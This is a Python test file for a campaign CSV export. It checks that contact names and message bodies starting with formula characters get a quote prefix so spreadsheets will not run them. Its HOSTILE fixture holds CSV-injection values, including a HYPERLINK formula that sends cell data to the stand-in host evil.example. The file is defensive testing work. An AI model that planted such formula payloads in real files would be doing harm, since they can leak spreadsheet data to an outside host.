"""An exported campaign opened in a spreadsheet never runs a contact's or a reply's formula."""

from __future__ import annotations

import asyncio
import csv
import io

from sqlalchemy import update
from starlette.testclient import TestClient

from persistence.outbox.outbox import open_database
from persistence.queries.export import neutralize
from persistence.store.models import Contact
from server.signature import compute_signature
from tests.support.worlds.accounts import login
from tests.support.worlds.messaging import NUMBER, TOKEN, build_sync

HOSTILE = {
    "Ada": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1)"),
    "Grace": ("@SUM(1)", "-2+3"),
    "Alan": ("\tcmd", "\r=1"),
}


def _rename_contacts(database_url: str) -> None:
    async def run() -> None:
        db = open_database(database_url)
        try:
            async with db.transaction() as session:
                for old, (first, last) in HOSTILE.items():
                    await session.execute(
                        update(Contact)
                        .where(Contact.first_name == old)
                        .values(first_name=first, last_name=last)
                    )
        finally:
            await db.dispose()

    asyncio.run(run())


def test_cells_a_spreadsheet_would_run_are_prefixed_with_a_quote(
    client: TestClient, database_url: str
) -> None:
    world = build_sync(database_url, assign=["Sam", "Sam", "Sam", None, None, None])
    _rename_contacts(database_url)
    owner = login(client, "owner@example.org")
    params = {"From": world.phones[1], "To": NUMBER, "Body": "=1+1", "MessageSid": "SM1"}
    signature = compute_signature(TOKEN, "http://testserver/api/sms/inbound", params.items())
    client.post("/api/sms/inbound", data=params, headers={"x-twilio-signature": signature})
    response = client.get(f"/api/campaigns/{world.campaign_id}/export.csv", headers=owner.headers)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    names = {(r["contact_first_name"], r["contact_last_name"]) for r in rows}
    for first, last in HOSTILE.values():
        assert ("'" + first, "'" + last) in names
    assert "'=1+1" in {r["body"] for r in rows}
    # Harmless text and numbers are written as they are.
    assert ("Katherine", "Johnson") in names
    assert all(r["conversation_id"].isdigit() for r in rows)


def test_only_the_contracts_leading_characters_are_neutralized() -> None:
    for risky in ("=1", "+1", "-1", "@A1", "\t1", "\r1"):
        assert neutralize(risky) == "'" + risky
    for safe in ("1=1", " =1", "'=1", "", "Ada", "|cmd", "%1"):
        assert neutralize(safe) == safe
    assert neutralize(-5) == -5  # numbers the export writes itself (ids) are not text
